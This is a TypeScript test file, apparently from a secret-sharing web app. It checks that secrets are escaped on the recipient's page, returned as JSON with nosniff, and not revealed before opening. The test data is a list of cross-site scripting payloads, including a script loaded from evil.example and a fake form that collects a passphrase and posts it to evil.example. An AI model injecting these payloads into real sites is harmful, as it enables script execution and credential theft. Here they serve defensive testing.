import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { jsonOf } from '../durability/client.ts';
import { openForm, openSite } from './stores.ts';

const { client } = await openSite({ after }, 'SQLite');

const attacks: readonly string[] = [
  '</textarea><script src=//evil.example/x.js></script>',
  '</textarea></form><form action="https://evil.example"><input name=passphrase autofocus>',
  '<img src=x onerror=alert(1)><svg onload=alert(1)><base href=//evil.example>',
  '--></script><!--<script>\u2028alert(1)</textarea \n>',
  '&lt;/textarea&gt;&#60;script&#62;alert(1)&#60;/script&#62;',
];

test('what a sender writes reaches the recipient’s page as text, whatever markup it is', async () => {
  for (const attack of attacks) {
    const { secretKey } = await client.share(attack);
    const form = await openForm(client, `/secret/${secretKey}`);
    const { status, headers, body } = await form.post(`/secret/${secretKey}`, { continue: 'true' });
    assert.deepEqual([status, headers['content-type']], [200, 'text/html; charset=utf-8'], attack);
    const page = body.toString();
    assert.doesNotMatch(page, /evil\.example\/x\.js><|<img src=x|<svg onload|<base |<form action="https:/, attack);
    const [, shown = 'no area'] = /<textarea[^>]*>\n?([\s\S]*?)<\/textarea>/.exec(page) ?? [];
    assert.equal(textOf(shown), attack);
    assert.equal(page.split('</textarea>').length, 2, attack);
  }
});

test('a program gets what a sender wrote as JSON and as nothing else', async () => {
  for (const attack of attacks) {
    const { secretKey } = await client.share(attack);
    const answer = await client.reveal(secretKey);
    assert.equal(answer.headers['content-type'], 'application/json; charset=utf-8');
    assert.equal(answer.headers['x-content-type-options'], 'nosniff');
    assert.equal(jsonOf(answer).record.secret_value, attack);
  }
});

test('before it is opened a page says nothing of what its sender wrote', async () => {
  const { secretKey } = await client.share('come to evil.example', { passphrase: 'evil.example' });
  for (const path of [`/secret/${secretKey}`, `/secret/${secretKey}/burn`, `/api/v2/secret/${secretKey}`]) {
    assert.equal((await client.ask(path)).body.includes('evil.example'), false, path);
  }
});

/** As a browser reads it. */
function textOf(html: string): string {
  const signs: Readonly<Record<string, string>> = { lt: '<', gt: '>', quot: '"', amp: '&', '#x27': "'" };
  return html.replaceAll(/&(lt|gt|quot|amp|#x27);/g, (_whole, name: string) => signs[name] ?? '');
}
